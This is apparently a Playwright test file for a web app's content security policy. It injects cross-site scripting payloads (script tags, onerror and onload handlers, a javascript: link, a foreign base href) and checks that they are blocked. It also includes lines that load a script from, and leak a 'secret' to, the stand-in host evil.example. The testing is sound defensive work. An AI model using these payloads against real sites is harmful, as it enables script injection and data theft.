import { expect, type Page } from "@playwright/test";
import { postJson, signUpAndIn } from "./accounts.ts";
import { newGuest, openHydrated } from "./guest-actions.ts";
import { test } from "./test.ts";

/** What an injected script would do. */
const attack = "window.injected = true";
const wasInjected = (page: Page) => page.evaluate(() => Reflect.has(window, "injected"));

const reflections = [
  `<script>${attack}</script>`,
  `<script type="module">${attack}</script>`,
  `<script nonce="guess">${attack}</script>`,
  `<img src="/missing.png" alt="" onerror="${attack}">`,
  `<iframe title="attack" srcdoc="<script>parent.injected = true</script>"></iframe>`,
  `<svg onload="${attack}"></svg>`,
  `<base href="https://evil.example/">`,
];

for (const markup of reflections) {
  test(`a script that came in with the content of a page does not run: ${markup}`, async ({
    page,
    policyViolations,
  }) => {
    await page.route("**/menu", async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace("<body", `${markup}<body`).replace("</main>", `${markup}</main>`);
      await route.fulfill({ response, body });
    });
    await openHydrated(page, "/menu");
    await expect.poll(() => policyViolations.length).toBeGreaterThan(0);
    expect(await wasInjected(page)).toBe(false);
    policyViolations.length = 0;
  });
}

test("a script that is inserted into a page does not run", async ({ page, policyViolations, foreignRequests }) => {
  await openHydrated(page, "/");
  await page.evaluate((code) => {
    const script = document.createElement("script");
    script.textContent = code;
    document.body.append(script);
    document.body.insertAdjacentHTML("beforeend", `<img src="/missing.png" alt="" onerror="${code}">`);
    document.body.insertAdjacentHTML("beforeend", `<a id="attack" href="javascript:${code}">x</a>`);
    document.getElementById("attack")?.click();
    const foreign = document.createElement("script");
    foreign.src = "https://evil.example/a.js";
    document.body.append(foreign);
  }, attack);
  await expect.poll(() => policyViolations.length).toBeGreaterThanOrEqual(4);
  expect(await wasInjected(page)).toBe(false);
  policyViolations.length = 0;
  // The browser announces the request, and then blocks it.
  expect(foreignRequests.splice(0)).toEqual(["https://evil.example/a.js"]);
});

/** Records the requests for foreign pictures and answers them. */
async function serveForeignImages(page: Page): Promise<string[]> {
  const requested: string[] = [];
  await page.context().route("https://*.example/**", (route) => {
    requested.push(route.request().url());
    return route.fulfill({ contentType: "image/svg+xml", body: '<svg xmlns="http://www.w3.org/2000/svg"/>' });
  });
  return requested;
}

test("a public page sends nothing to a foreign host by the address of a picture", async ({
  page,
  policyViolations,
}) => {
  const requested = await serveForeignImages(page);
  await openHydrated(page, "/");
  await page.evaluate(() =>
    document.body.insertAdjacentHTML("beforeend", '<img src="https://evil.example/x.png?secret" alt="">'),
  );
  await expect.poll(() => policyViolations.length).toBe(1);
  expect(requested).toEqual([]);
  policyViolations.length = 0;
});

test("a dish shows a picture of any https address that an admin gave", async ({ page, admin }) => {
  const requested = await serveForeignImages(page);
  await postJson(page.request, "/auth/sign-in/email", admin);
  const { token: idToken } = await (await page.request.get("/auth/token")).json();
  const { token } = await postJson(page.request, "/api/jwt", { email: admin.email }, idToken);
  const menu: { _id: string; category: string; image: string }[] = await (await page.request.get("/api/menu")).json();
  const soup = menu.find(({ category }) => category === "soup");
  const headers = { authorization: `Bearer ${token}` };
  const setImage = async (image: string | undefined) =>
    expect((await page.request.patch(`/api/menu/${soup?._id}`, { data: { image }, headers })).ok()).toBe(true);
  await setImage("https://pictures.example/soup.svg");
  await page.goto("/order/soup");
  await expect.poll(() => requested).toContain("https://pictures.example/soup.svg");
  // Other tests use the same server.
  await setImage(soup?.image);
});

test("a user's own picture of any https address is shown to them, from whichever page they come", async ({
  page,
  isMobile,
}) => {
  const requested = await serveForeignImages(page);
  await signUpAndIn(page, newGuest(), true, "https://photos.example/ada.svg");
  await openHydrated(page, "/");
  if (isMobile) await page.getByLabel("Menu of pages").click();
  await page.locator('a[href="/dashboard/userHome"]:visible').first().click();
  await expect.poll(() => requested).toContain("https://photos.example/ada.svg");
});
